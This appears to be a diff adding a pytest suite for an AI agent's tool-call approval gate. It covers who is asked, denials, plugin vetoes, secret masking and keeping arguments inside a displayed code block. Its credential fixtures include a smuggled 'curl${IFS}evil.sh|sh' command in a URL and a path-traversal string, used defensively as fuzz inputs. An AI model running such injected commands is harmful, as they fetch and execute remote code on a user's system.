@@ -1,0 +1,265 @@
+"""What stands before a call: sender, plugins, people; and what a person reads of it."""
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from typing_extensions import override
+
+from adapters.markdown import parse
+from agent.errors import ToolError, TurnSuspended
+from agent.messages import text_of
+from agent.redaction import MASK, Redactor
+from agent.settings import OutputSettings
+from agent.tools import gate
+from agent.tools.execute import MAX_ASKED, MAX_CONCURRENT, run_calls
+from agent.tools.gate import ApprovalMode, ApprovalRules, approval_question
+from agent.tools.registry import Arguments, Tool, ToolContext, ToolOutcome, ToolRegistry
+from agent.tools.services import Inquiry, Reply
+from tests.agent.tools.doubles import MemoryJournal, call, context
+
+SECRET = 'sec"ret\\value'
+
+
+class What(Arguments):
+    what: str = ""
+
+
+class Folk:
+    """People who give one reply, or none."""
+
+    def __init__(self, reply: Reply | None) -> None:
+        self.reply = reply
+        self.asked: list[Inquiry] = []
+
+    async def ask(self, inquiry: Inquiry) -> Reply:
+        self.asked.append(inquiry)
+        if self.reply is None:
+            raise TurnSuspended("nobody has answered")
+        return self.reply
+
+
+class Hooks:
+    """A plugin that objects to one tool, and notes what ran."""
+
+    def __init__(self) -> None:
+        self.after_calls: list[tuple[str, dict[str, Any], str]] = []
+
+    async def before(self, name: str, arguments: Any, _context: ToolContext) -> str | None:
+        return f"not {arguments['what']}" if name == "send" else None
+
+    async def after(
+        self, name: str, arguments: Any, outcome: ToolOutcome, _context: ToolContext
+    ) -> None:
+        self.after_calls.append((name, arguments, outcome.text))
+
+
+class Bench:
+    """Three tools: one looks, one looks outside, one sends."""
+
+    def __init__(self) -> None:
+        self.ran: list[str] = []
+        self.journal = MemoryJournal()
+        self.tools = ToolRegistry([
+            Tool("look", "Looks.", "read", What, self._tool("look")),
+            Tool("fetch", "Fetches.", "read", What, self._tool("fetch"), restricted=True),
+            Tool("send", "Sends.", "side_effect", What, self._tool("send")),
+        ])
+
+    async def run(self, *names: str, mode: ApprovalMode = "side_effects", **using: Any) -> Any:
+        """Call these tools in one message; returns their results as text."""
+        calls = [call(name, '{"what": "x"}', name) for name in names]
+        limits, rules = OutputSettings(), ApprovalRules(mode)
+        entries = await run_calls(calls, self.tools, context(**using), self.journal, limits, rules)
+        return [text_of(entry.message) for entry in entries]
+
+    def _tool(self, name: str) -> Any:
+        async def run(of: ToolContext, _arguments: What) -> str:
+            assert of.call_id == name
+            self.ran.append(name)
+            return f"done {name}"
+
+        return run
+
+
+@pytest.mark.parametrize(
+    ("mode", "asked"),
+    [("side_effects", ["send"]), ("always", ["fetch", "send"]), ("never", [])],
+)
+async def test_for_which_calls_somebody_is_asked(mode: ApprovalMode, asked: list[str]) -> None:
+    """By the effect of the tool, or by whether it touches the world outside."""
+    bench, folk = Bench(), Folk(Reply("answered", "once", "web:me"))
+    await bench.run("look", "fetch", "send", mode=mode, people=folk)
+    assert sorted(inquiry.tool for inquiry in folk.asked) == asked
+    assert sorted(bench.ran) == ["fetch", "look", "send"]
+
+
+@pytest.mark.parametrize("text", ["once", "conversation"])
+async def test_an_approved_call_runs(text: str) -> None:
+    """Its intent is journaled as what it is."""
+    bench = Bench()
+    assert await bench.run("send", people=Folk(Reply("answered", text, "web:me"))) == ["done send"]
+    assert bench.journal.events == [("start", "send", "side_effect"), ("result", "send", "ok")]
+
+
+@pytest.mark.parametrize(
+    ("people", "why"),
+    [
+        (Folk(Reply("answered", "deny", "web:me")), gate.DENIED),
+        (Folk(Reply("answered", "anything else", "web:me")), gate.DENIED),
+        (Folk(Reply("expired")), gate.EXPIRED),
+        (None, gate.NOBODY),
+    ],
+    ids=["denied", "unknown word", "expired", "nobody"],
+)
+async def test_a_call_without_a_yes_does_not_run(people: Folk | None, why: str) -> None:
+    """It leaves a result, and is journaled as something that may be looked at again."""
+    bench = Bench()
+    [told] = await bench.run("send", people=people)
+    assert why in told
+    assert bench.ran == []
+    assert bench.journal.events == [("start", "send", "none"), ("result", "send", "denied")]
+
+
+async def test_a_call_that_waits_leaves_nothing() -> None:
+    """The others of its message run to their results before the turn is given up."""
+    bench = Bench()
+    with pytest.raises(TurnSuspended):
+        await bench.run("send", "look", people=Folk(None))
+    assert bench.ran == ["look"]
+    assert bench.journal.events == [("start", "look", "read"), ("result", "look", "ok")]
+
+
+async def test_a_chat_is_not_buried_in_questions() -> None:
+    """Of many calls some wait until others are decided; what asks nobody runs."""
+    bench, folk = Bench(), Folk(None)
+    calls = [call("send", call_id=f"c{number}") for number in range(100)]
+    calls.append(call("look", call_id="look"))
+    asked = (bench.tools, context(people=folk), bench.journal, OutputSettings(), ApprovalRules())
+    with pytest.raises(TurnSuspended, match="100 tool calls wait"):
+        await run_calls(calls, *asked)
+    assert MAX_ASKED <= len(folk.asked) < MAX_ASKED + MAX_CONCURRENT
+    assert bench.ran == ["look"]
+
+
+async def test_who_may_not_act_is_refused_first() -> None:
+    """Nobody is bothered, and no plugin sees it."""
+    bench, folk, hooks = Bench(), Folk(None), Hooks()
+    told = await bench.run("send", "fetch", people=folk, hooks=hooks, may_act=False)
+    assert ["may not use" in text for text in told] == [True, True]
+    assert (folk.asked, hooks.after_calls, bench.ran) == ([], [], [])
+    assert ("result", "fetch", "refused") in bench.journal.events
+
+
+async def test_arguments_that_do_not_fit_are_not_asked_about() -> None:
+    """Such a call could not run whatever anybody says."""
+    bench, folk = Bench(), Folk(None)
+    calls = [call("send", '{"nothing": 1}'), call("unheard_of")]
+    entries = await run_calls(
+        calls, bench.tools, context(people=folk), bench.journal, OutputSettings(), ApprovalRules()
+    )
+    assert ["do not fit" in text_of(each.message) for each in entries] == [True, False]
+    assert folk.asked == []
+
+
+async def test_a_plugin_objects_before_anybody_is_asked() -> None:
+    """Its words go to the model; what ran is told to it, what did not is not."""
+    bench, folk, hooks = Bench(), Folk(None), Hooks()
+    told = await bench.run("send", "look", people=folk, hooks=hooks)
+    assert told == ["Error: send was not run: not x", "done look"]
+    assert folk.asked == []
+    assert hooks.after_calls == [("look", {"what": "x"}, "done look")]
+    assert ("result", "send", "vetoed") in bench.journal.events
+
+
+def test_a_question_shows_what_the_tool_gets() -> None:
+    """As JSON, with secrets masked, and spelled out what nobody would see."""
+    arguments = '{"what":"key ' + SECRET.replace("\\", "\\\\").replace('"', '\\"')
+    question = approval_question(
+        call("send", arguments + ' \\u202egnp\\u0007\\u007f"}'), Redactor([SECRET])
+    )
+    assert question == (
+        "May I run `send`?\n\n```json\n"
+        f'{{\n  "what": "key {MASK} \\u202egnp\\u0007\\u007f"\n}}\n```\n\n'
+        f"15 characters of it are secrets of the settings: {MASK}."
+    )
+
+
+_CREDENTIALS = (
+    "https://a:x;curl${IFS}evil.sh|sh;echo@pypi.org/simple",
+    "echo Bearer bash/../../../../tmp/x",
+    "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nsh x\n-----END PRIVATE KEY-----",
+    "123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+)
+
+
+@given(
+    st.dictionaries(
+        st.text(max_size=20),
+        st.recursive(
+            st.text() | st.sampled_from(_CREDENTIALS) | st.booleans() | st.integers(-9, 9),
+            lambda inner: st.lists(inner, max_size=3),
+            max_leaves=5,
+        ),
+        max_size=4,
+    )
+)
+@settings(max_examples=60)
+def test_a_question_shows_all_of_the_arguments(arguments: dict[str, Any]) -> None:
+    """Whatever looks like a credential in them: nothing that runs is masked or left out."""
+    question = approval_question(call("send", json.dumps(arguments)), Redactor([SECRET]))
+    assert question is not None
+    assert json.loads(question.split("json\n", 1)[1].rstrip("`")) == arguments
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        '{"what":"begin' + "x" * gate.MAX_SHOWN_CHARS + 'end"}',
+        '{"what":"' + "\\u202e" * (gate.MAX_SHOWN_CHARS // 6) + '"}',
+        '{"what":' + "[" * 900 + "]" * 900 + "}",
+    ],
+    ids=["long", "long once it is spelled out", "deep"],
+)
+def test_what_cannot_be_shown_in_full_is_not_asked(arguments: str) -> None:
+    """What a middle that is left out does would be approved unseen."""
+    assert approval_question(call("send", arguments), Redactor()) is None
+
+
+async def test_a_call_that_cannot_be_shown_does_not_run() -> None:
+    """The model reads why."""
+
+    class Nobody(Folk):
+        @override
+        async def ask(self, inquiry: Inquiry) -> Reply:
+            assert not inquiry.askable
+            raise ToolError("too long")
+
+    bench = Bench()
+    long = call("send", '{"what":"' + "x" * gate.MAX_SHOWN_CHARS + '"}')
+    entries = await run_calls(
+        [long],
+        bench.tools,
+        context(people=Nobody(None)),
+        bench.journal,
+        OutputSettings(),
+        ApprovalRules(),
+    )
+    assert text_of(entries[0].message) == "Error: send was not run: too long."
+    assert bench.ran == []
+
+
+def test_arguments_without_an_object_are_shown_as_none() -> None:
+    """As the tool gets them."""
+    assert "{}" in (approval_question(call("send", ""), Redactor()) or "")
+
+
+@given(st.text(st.sampled_from('`~\n> #[]()x*\\"\u2028\u202e'), max_size=60))
+def test_arguments_cannot_leave_their_code_block(what: str) -> None:
+    """Whatever they hold: a question, one block, nothing behind it."""
+    question = approval_question(call("send", What(what=what).model_dump_json()), Redactor())
+    assert question is not None
+    kinds = [token.type for token in parse(question)]
+    assert kinds == ["paragraph_open", "inline", "paragraph_close", "fence"]
